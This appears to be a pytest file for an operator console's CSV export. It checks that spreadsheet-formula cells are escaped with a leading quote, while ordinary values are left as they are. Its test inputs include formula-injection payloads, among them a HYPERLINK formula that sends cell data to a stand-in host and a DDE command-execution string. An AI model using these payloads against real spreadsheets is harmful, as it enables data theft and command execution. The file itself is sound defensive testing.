"""The console's CSV export (``csv()`` in ``static/ui.js``, used by every CSV the page writes):
a text cell a spreadsheet would take for a formula, such as a model name a client chose
(``=HYPERLINK(...)``), is written with a ``'`` in front and opens as the text it is; numbers
and ordinary text are written as they are. Run in node, on the page's own function."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

UI_JS = Path(__file__).resolve().parent.parent / "gateway/operator/console/static/ui.js"
NODE = shutil.which("node") or shutil.which("nodejs")

pytestmark = pytest.mark.skipif(NODE is None, reason="node is not installed")


def export(rows: list[dict[str, Any]], columns: list[str]) -> list[list[str]]:
    """What the console's export writes for these records, read back as a spreadsheet
    would split it."""
    source = UI_JS.read_text()
    found = re.search(r"^(?:export )?function csv\(.*?^}\n", source, re.M | re.S)
    assert found is not None, "csv() is not in ui.js"
    script = (
        found.group(0).removeprefix("export ")
        + f"process.stdout.write(csv({json.dumps(rows)}, {json.dumps(columns)}));"
    )
    assert NODE is not None
    done = subprocess.run([NODE, "-e", script], capture_output=True, timeout=30)
    assert done.returncode == 0, done.stderr.decode()
    return list(csv.reader(io.StringIO(done.stdout.decode(), newline="")))


@pytest.mark.parametrize(
    "model",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_a_client_chose_is_written_as_text(model: str) -> None:
    header, row = export([{"model": model, "cost": 0.5}], ["model", "cost"])
    assert header == ["model", "cost"]
    assert row == ["'" + model, "0.5"]


def test_ordinary_cells_and_numbers_are_written_as_they_are() -> None:
    record = {"model": "chat-small", "request_id": "a,b", "cost": -1.25, "status": 200,
              "channel": None, "note": 'say "hi"'}  # fmt: skip
    columns = ["model", "request_id", "cost", "status", "channel", "note"]
    assert export([record], columns)[1] == ["chat-small", "a,b", "-1.25", "200", "", 'say "hi"']
